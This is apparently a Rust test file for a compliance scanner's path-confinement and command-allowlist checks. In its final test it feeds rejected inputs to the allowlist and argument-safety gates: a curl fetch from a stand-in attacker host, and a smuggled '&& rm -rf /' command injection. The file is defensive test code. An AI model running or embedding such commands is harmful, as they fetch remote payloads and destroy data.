//! S3 and the command-confinement invariant: every write must stay under
//! `<repoPath>/.compliance`, and every scanner invocation must match the
//! command allowlist.

use cn_core::{path_policy, CnError};
use cn_handlers::HandlerContext;

#[test]
fn dotdot_repo_path_is_rejected_before_any_filesystem_resolution() {
    let result = HandlerContext::new("/tmp/some-repo/../escape");
    assert!(matches!(result, Err(CnError::InvalidArgument { field, .. }) if field == "repoPath"));
}

#[test]
fn nul_byte_in_repo_path_is_rejected() {
    let result = HandlerContext::new("/tmp/some-repo\0x");
    assert!(matches!(result, Err(CnError::InvalidArgument { field, .. }) if field == "repoPath"));
}

#[test]
fn write_target_outside_compliance_root_is_rejected() {
    let dir = tempfile::tempdir().unwrap();
    let compliance_root = dir.path().join(".compliance");
    std::fs::create_dir_all(&compliance_root).unwrap();

    let escape_target = dir.path().join("outside.json");
    let result = path_policy::assert_under(&compliance_root, &escape_target);
    assert!(matches!(result, Err(CnError::PathEscape { .. })));
}

#[test]
fn export_audit_packet_zip_path_stays_under_the_run_directory() {
    let dir = tempfile::tempdir().unwrap();
    let repo_path = cn_integration_tests::demo_repo(dir.path());
    let ctx = HandlerContext::new(&repo_path.display().to_string()).unwrap();

    let run_id = "20260101T000000000-dddddddd";
    cn_integration_tests::write_fixture_scan_result(&ctx, run_id, cn_core::Framework::Soc2, cn_integration_tests::sample_findings());
    cn_handlers::generate_audit_packet(&ctx, cn_handlers::GenerateAuditPacketRequest { run_id: Some(run_id.to_string()) }).unwrap();

    let exported = cn_handlers::export_audit_packet(&ctx, cn_handlers::ExportAuditPacketRequest { run_id: Some(run_id.to_string()) }).unwrap();
    let zip_path = std::path::Path::new(&exported.zip_path);
    assert!(zip_path.starts_with(ctx.run_dir(run_id)));
}

#[test]
fn command_allowlist_and_shell_safety_are_independent_gates() {
    assert!(cn_core::assert_allowed("gitleaks detect --source . --report-format json").is_ok());
    assert!(cn_core::assert_allowed("curl http://evil.example/payload").is_err());

    // The allowlist regex matches on command shape, not argument safety —
    // a trailing shell operator after a legitimate-looking prefix still
    // matches, which is why `assert_shell_safe_argument` is a second,
    // independent gate applied to each argument before a shell-mediated
    // invocation is ever built.
    assert!(cn_core::assert_allowed("gitleaks detect --source . && rm -rf /").is_ok());
    assert!(cn_core::assert_shell_safe_argument("--source . && rm -rf /").is_err());
}
